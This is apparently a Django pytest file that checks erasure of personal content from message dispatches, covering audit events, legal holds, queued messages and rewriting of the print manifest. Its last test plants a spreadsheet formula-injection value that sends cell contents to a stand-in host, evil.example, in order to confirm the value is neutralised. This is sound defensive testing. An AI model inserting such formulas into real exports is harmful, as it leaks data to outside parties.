"""Erasing a dispatch's personal content keeps its record and leaves no copy."""

import csv
from pathlib import Path

import pytest
from django.conf import settings

from audit.models import AuditEvent
from audit.sealing import event_readable
from audit.verify import chain_verify
from channels_app.models import (
    CONTENT_PARTS_ALL,
    ContentPart,
    Dispatch,
    ErasureCause,
)
from retention.erasure import dispatches_content_erase
from retention.holds import hold_place

pytestmark = pytest.mark.django_db


def _files_mentioning(text: str) -> list[Path]:
    roots = [Path(settings.MEDIA_ROOT), Path(settings.SMS_FILE_DIR)]
    return [
        path
        for root in roots
        for path in root.rglob("*")
        if path.is_file() and text.encode() in path.read_bytes()
    ]


def test_erasing_removes_copies_files_snapshot_and_address_but_keeps_the_record(
    channels_sent,
):
    sent = channels_sent(1)
    letter = sent["letter"]
    pdf_name = letter.letter_pdf.name
    assert _files_mentioning("Noura Alharbi 1")
    assert _files_mentioning("Olaya Street")
    kept = {
        d.pk: (
            d.status,
            d.content_sha256,
            d.created,
            d.communication.template_version_id,
        )
        for d in sent.values()
    }

    count = dispatches_content_erase(
        [d.pk for d in sent.values()], cause=ErasureCause.REQUEST, reason="DSR-7"
    )

    assert count.dispatches == 3
    assert count.parts[ContentPart.COPY] == 3
    assert count.held == count.busy == 0
    for dispatch in Dispatch.objects.filter(pk__in=kept).select_related(
        "communication"
    ):
        assert (
            dispatch.status,
            dispatch.content_sha256,
            dispatch.created,
            dispatch.communication.template_version_id,
        ) == kept[dispatch.pk]
        assert dispatch.address == dispatch.subject == dispatch.body_text == ""
        assert dispatch.body_html == "" and not dispatch.letter_pdf
        assert dispatch.erased_parts == CONTENT_PARTS_ALL
        assert dispatch.content_erased_cause == ErasureCause.REQUEST
        assert dispatch.content_erased_at is not None
        assert dispatch.communication.data == {}
    assert not Path(settings.MEDIA_ROOT, pdf_name).exists()
    assert _files_mentioning("Noura Alharbi 1") == []
    assert _files_mentioning("Olaya Street") == []
    assert _files_mentioning("+966501230001") == []
    (manifest,) = Path(settings.MEDIA_ROOT).glob("print/*/manifest.csv")
    [header, row] = list(csv.reader(manifest.open(encoding="utf-8")))
    assert row[header.index("dispatch")] == str(letter.pk)
    assert row[header.index("address")] == ""
    events = AuditEvent.objects.filter(action="retention.dispatch.erased")
    assert sorted(int(e.object_id) for e in events) == sorted(kept)
    assert {event_readable(e)["reason"] for e in events} == {"DSR-7"}
    assert chain_verify().ok


def test_a_second_erasure_does_nothing(channels_sent):
    sent = channels_sent(2)
    ids = [d.pk for d in sent.values()]
    dispatches_content_erase(ids, cause=ErasureCause.RETENTION)
    events = AuditEvent.objects.count()

    again = dispatches_content_erase(
        Dispatch.objects.filter(pk__in=ids), cause=ErasureCause.RETENTION
    )

    assert again.dispatches == 0
    assert AuditEvent.objects.count() == events


def test_only_the_parts_asked_for_go(channels_sent):
    sent = channels_sent(3)

    dispatches_content_erase(
        [sent["email"].pk], cause=ErasureCause.RETENTION, parts=ContentPart.COPY
    )

    email = Dispatch.objects.get(pk=sent["email"].pk)
    assert email.body_text == "" and email.subject == ""
    assert email.address == "noura3@example.com"
    assert email.erased(ContentPart.COPY) and not email.erased(ContentPart.CONTACT)
    assert email.communication.data["name"] == "Noura Alharbi 3"


def test_a_dispatch_under_hold_is_left_whole(channels_sent, django_user_model):
    sent = channels_sent(4)
    hold_place(
        actor=None,
        scope="customer",
        customer=sent["email"].communication.customer,
        reason="Litigation",
        reference="CASE-1",
    )

    count = dispatches_content_erase(
        [d.pk for d in sent.values()], cause=ErasureCause.REQUEST
    )

    assert count.dispatches == 0 and count.held == 3
    email = Dispatch.objects.get(pk=sent["email"].pk)
    assert email.body_text and email.erased_parts == 0


def test_a_queued_dispatch_keeps_its_content_until_sent(demo_templates):
    from customers.services import customer_upsert
    from tests.factories import approved_version_build, dispatch_build

    customer, _ = customer_upsert(external_id="Q-1", name="Sara", email="s@x.example")
    queued = dispatch_build(version=approved_version_build(), customer=customer)

    count = dispatches_content_erase([queued.pk], cause=ErasureCause.REQUEST)

    assert count.dispatches == 0 and count.busy == 1
    queued.refresh_from_db()
    assert queued.body_text and queued.erased_parts == 0


def test_erasing_rewrites_the_print_manifest_without_a_runnable_formula(
    channels_sent,
):
    """A manifest line written before neutralisation is neutralised on rewrite."""
    letter = channels_sent(1)["letter"]
    (manifest,) = Path(settings.MEDIA_ROOT).glob("print/*/manifest.csv")
    legacy = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with manifest.open("a", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerow([99999, legacy, "dispatch-99999.pdf", "0" * 64])

    dispatches_content_erase([letter.pk], cause=ErasureCause.REQUEST, reason="DSR-8")

    header, *rows = list(csv.reader(manifest.open(newline="", encoding="utf-8")))
    by_dispatch = {row[header.index("dispatch")]: row for row in rows}
    assert by_dispatch[str(letter.pk)][header.index("address")] == ""
    assert by_dispatch["99999"][header.index("address")] == "'" + legacy
